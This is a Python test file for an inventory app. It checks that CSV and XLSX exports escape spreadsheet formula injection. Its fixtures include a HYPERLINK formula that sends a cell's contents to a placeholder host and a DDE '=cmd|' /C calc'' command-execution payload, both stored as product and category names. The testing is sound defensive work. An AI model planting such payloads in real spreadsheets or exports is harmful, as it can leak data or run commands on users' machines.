"""No export carries a formula: a product or category named "=HYPERLINK(…)" is text in every
CSV (quoted with an apostrophe) and every XLSX (a text cell, never a formula)."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from app.exports import csv_writer, neutralise
from app.users.roles import Role
from inventory.models import ItemCategory
from inventory.ressourcerie.items import IntakeData, record_intake
from tests.inventory.ressourcerie.conftest import collection_type

EVIL = ['=HYPERLINK("http://x/?"&A1,"clic")', "+33 6 12", "-2+3", "@SUM(A1)", "\tcalc", "\r=1"]


@pytest.mark.parametrize("cell", EVIL)
def test_a_cell_that_would_start_a_formula_is_quoted(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-2,50", "-1 250 €", "+3", "-0,5 kg", "12 %", "Pâtes", "", 5, None, "a=b"]
)
def test_numbers_and_plain_text_are_left_alone(cell):
    assert neutralise(cell) == cell


def test_the_writer_quotes_every_cell_it_writes():
    out = io.StringIO()
    csv_writer(out).writerow(["=1+1", "ok", "-3"])
    assert out.getvalue() == "'=1+1;ok;-3\r\n"


def _cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")
        for cell in row
    ]


def test_product_tonnage_and_report_exports_carry_no_formula(
    client, make_user, login, session, now, make_product
):
    staff = make_user(Role.ENCADRANT, username="karim")
    make_product(EVIL[0])
    category = ItemCategory(name="=cmd|' /C calc'!A0")
    session.add(category)
    session.flush()
    record_intake(
        session,
        staff.id,
        now,
        date(2026, 11, 23),
        IntakeData(
            category.id, collection_type(session, "Apport volontaire"), date(2026, 11, 23), 5000
        ),
    )
    login("karim")

    products = client.get("/stock/products/export.csv").get_data(as_text=True)
    assert "'" + EVIL[0] in _cells(products)
    tonnage = client.get("/stock/ressourcerie/tonnage?du=2026-11-01&au=2026-11-30&format=csv")
    assert "'=cmd|' /C calc'!A0" in _cells(tonnage.get_data(as_text=True))
    report = client.get("/rapports/ressourcerie?du=2026-11-01&au=2026-11-30&format=csv")
    assert "'=cmd|' /C calc'!A0" in _cells(report.get_data().decode("utf-8"))

    book = load_workbook(
        io.BytesIO(
            client.get("/rapports/ressourcerie?du=2026-11-01&au=2026-11-30&format=xlsx").get_data()
        )
    )
    cells = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "cmd|" in cell.value
    ]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert not any(
        cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row
    )
